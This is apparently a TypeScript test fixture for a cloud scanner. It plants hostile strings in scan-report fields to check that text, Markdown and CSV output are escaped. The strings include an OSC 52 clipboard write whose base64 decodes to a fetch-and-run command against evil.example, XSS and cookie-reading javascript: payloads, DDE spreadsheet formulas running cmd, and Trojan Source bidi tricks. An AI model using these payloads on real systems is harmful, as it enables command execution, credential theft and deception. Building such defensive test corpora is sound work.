/**
 * A corpus of hostile strings, as a compromised VM, a hostile tenant or a tampered file could put
 * into names, messages and notes, and a scan result carrying them in every text field a report
 * shows. Every report format is tested against it (`hostile.test.ts`, `test/hostile/`). For
 * tests only.
 * @module
 */
import { scanResultFixture } from '../engine/testing.ts'
import type { Finding, ScanNote, ScanResult, ScopedIssue } from '../engine/types.ts'

/** Hostile strings by what they try. */
export const HOSTILE_STRINGS: Readonly<Record<string, string>> = {
  /** OSC 52: writes the operator's clipboard. */
  osc52: '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007web-1',
  /** CSI 2J (clear screen), then a fake line. */
  csi2j: '\u001b[2J\u001b[Hall checks passed',
  /** OSC 0 (window title) ended by BEL, and a bare bell. */
  title: '\u001b]0;owned\u0007\u0007',
  nul: 'nul\u0000byte',
  backspace: 'secret\u0008\u0008\u0008\u0008\u0008\u0008public',
  /** A carriage return that overwrites what the line showed. */
  cr: 'FAIL: port 22 open\rPASS                ',
  /** C1 CSI (0x9b), one byte for ESC [ on 8-bit terminals. */
  c1csi: 'c1\u009b31mred\u009b0m',
  /** U+202E right-to-left override: `exe.txt` shows as `txt.exe`. */
  rlo: 'invoice\u202Etxt.exe',
  /** U+2066 left-to-right isolate ("Trojan Source"). */
  lri: 'admin\u2066 /* ok */\u2069',
  script: '<script>alert(1)</script>',
  imgOnerror: '"><img src=x onerror=alert(2)>',
  javascriptUrl: 'javascript:alert(document.cookie)',
  /** A spreadsheet formula that runs a command (DDE). */
  formula: "=cmd|' /C calc'!A0",
  plusFormula: '+1+cmd|x',
  atFormula: '@SUM(1+1)*cmd|x',
  tabFormula: '\t=1+1',
  markdown: '| a | [x](http://evil.example) *b* @everyone `c`',
  loneHigh: 'lone\ud800high',
  loneLow: 'lone\udc00low',
  long: `long-${'A'.repeat(20_000)}`,
}

/** The corpus as a list. */
export const HOSTILE_LIST: readonly string[] = Object.values(HOSTILE_STRINGS)

/**
 * Characters that must never appear raw in text, Markdown or CSV output: C0 controls except tab
 * and line feed (the formats' own layout), DEL, C1 controls, bidi controls and lone surrogates.
 */
export const RAW_UNSAFE =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/

const pick = (i: number) => HOSTILE_LIST[i % HOSTILE_LIST.length]!

function hostileFinding(f: Finding, i: number): Finding {
  const s = pick(i)
  return {
    ...f,
    resource: { ...f.resource, id: `${f.resource.id}${pick(i + 1)}`, name: s, region: pick(i + 2) },
    message: `${f.message} ${s}`,
    ...(f.mute ? { mute: { ...f.mute, reason: pick(i + 3) } } : {}),
    ...(f.expiredMute ? { expiredMute: { ...f.expiredMute, reason: pick(i + 4) } } : {}),
  }
}

/**
 * The fixture scan result with a hostile string in every resource id, name and region, every
 * finding message and mute reason, one collection issue and one note per string, and in the
 * project id and region the report header shows.
 */
export function hostileScanResult(): ScanResult {
  const base = scanResultFixture()
  const notes: ScanNote[] = HOSTILE_LIST.map((s, i) => ({
    level: i % 2 === 0 ? 'warning' : 'info',
    code: 'host-report-invalid',
    source: `host-reports/${s}.json`,
    message: `not used: ${s}`,
  }))
  const scope = {
    ...base.scopes[0]!.scope,
    projectName: HOSTILE_STRINGS.osc52!,
    region: HOSTILE_STRINGS.rlo!,
  }
  const issues: ScopedIssue[] = HOSTILE_LIST.map((s, i) => ({
    scope,
    service: 'compute',
    resourceType: 'ecs.server',
    region: pick(i + 5),
    errorKind: 'client',
    message: `403 Forbidden: ${s}`,
  }))
  return {
    ...base,
    scopes: base.scopes.map((s, i) => (i === 0 ? { ...s, scope } : s)),
    findings: base.findings.map(hostileFinding),
    issues,
    notes,
  }
}

/** A small RFC 4180 parser, to read CSV output back. */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  let i = 0
  while (i < text.length) {
    const ch = text[i]!
    const next = text[i + 1]
    i++
    if (quoted) {
      if (ch === '"' && next === '"') {
        cell += '"'
        i++
      } else if (ch === '"') quoted = false
      else cell += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') {
      row.push(cell)
      cell = ''
    } else if (ch === '\r' && next === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else cell += ch
  }
  return rows
}
